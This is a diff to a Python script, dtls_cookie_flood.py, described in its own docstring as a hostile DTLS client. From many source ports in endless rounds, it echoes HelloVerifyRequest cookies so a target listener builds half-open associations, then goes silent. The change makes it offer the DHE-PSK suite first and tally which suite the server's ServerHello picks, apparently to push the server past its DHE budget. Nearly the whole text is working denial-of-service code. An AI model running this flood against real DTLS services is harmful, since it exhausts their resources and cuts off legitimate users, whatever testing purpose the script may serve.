@@ -2,8 +2,11 @@
 """A hostile DTLS client: from SOURCE, in rounds, opens PORTS sockets (one source port each),
 one after the other sends a DTLS 1.2 ClientHello on each and answers the HelloVerifyRequest
 (if one comes within 10 ms) with the ClientHello that echoes its cookie, so the listener
-creates a half-open association; then it goes silent.
-It loops until killed, and prints one line per round ("round N: M cookies echoed").
+creates a half-open association; it reads the suite of the listener's ServerHello (if one comes
+within 10 ms), then goes silent. It offers the DHE-PSK suite first, so a listener within its
+DHE budget picks it, and one past the budget the X25519 suite (ECDHE-PSK-CHACHA20-POLY1305).
+It loops until killed, and prints one line per round ("round N: M cookies echoed; server
+hellos: dhe D, ecdhe E, other O").
 
 usage: dtls_cookie_flood.py SOURCE HOST PORT PORTS
 """
@@ -16,7 +19,9 @@ import time
 
 source, host, port, ports = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
 
-SUITES = [0xCCAC, 0x00A8, 0xC02B, 0xC02F]
+DHE_PSK = 0x00AA  # DHE-PSK-AES128-GCM-SHA256
+ECDHE_PSK = 0xCCAC  # ECDHE-PSK-CHACHA20-POLY1305
+SUITES = [DHE_PSK, ECDHE_PSK, 0x00A8, 0xC02B, 0xC02F]
 EXTENSIONS = (
     struct.pack(">HHH", 10, 6, 4) + struct.pack(">HH", 0x001D, 0x0017)  # supported_groups
     + struct.pack(">HHB", 11, 2, 1) + b"\x00"  # ec_point_formats: uncompressed
@@ -50,7 +55,20 @@ def cookie_of(datagram):
     return datagram[28:28 + n] if len(datagram) >= 28 + n else None
 
 
+def server_hello_suite(datagram):
+    # record header 13 + handshake header 12 (type 2: ServerHello), then server_version 2,
+    # random 32, session id (length 1 + bytes), cipher suite 2.
+    if len(datagram) < 60 or datagram[0] != 22 or datagram[13] != 2:
+        return None
+    at = 13 + 12 + 2 + 32
+    at += 1 + datagram[at]
+    if len(datagram) < at + 2:
+        return None
+    return struct.unpack(">H", datagram[at:at + 2])[0]
+
+
 round_no = 0
+totals = {"dhe": 0, "ecdhe": 0, "other": 0}
 while True:
     round_no += 1
     socks = []
@@ -76,7 +94,24 @@ while True:
             continue
         s.sendto(client_hello(r, cookie, 1), (host, port))
         echoed += 1
-    print(f"round {round_no}: {echoed} cookies echoed", flush=True)
+        ready, _, _ = select.select([s], [], [], 0.01)
+        if not ready:
+            continue
+        try:
+            suite = server_hello_suite(s.recv(4096))
+        except OSError:
+            continue
+        if suite == DHE_PSK:
+            totals["dhe"] += 1
+        elif suite == ECDHE_PSK:
+            totals["ecdhe"] += 1
+        elif suite is not None:
+            totals["other"] += 1
+    print(
+        f"round {round_no}: {echoed} cookies echoed; server hellos: dhe {totals['dhe']}, "
+        f"ecdhe {totals['ecdhe']}, other {totals['other']}",
+        flush=True,
+    )
     # Silent from here: the half-open associations wait for a client that never answers.
     time.sleep(0.1)
     for s in socks:
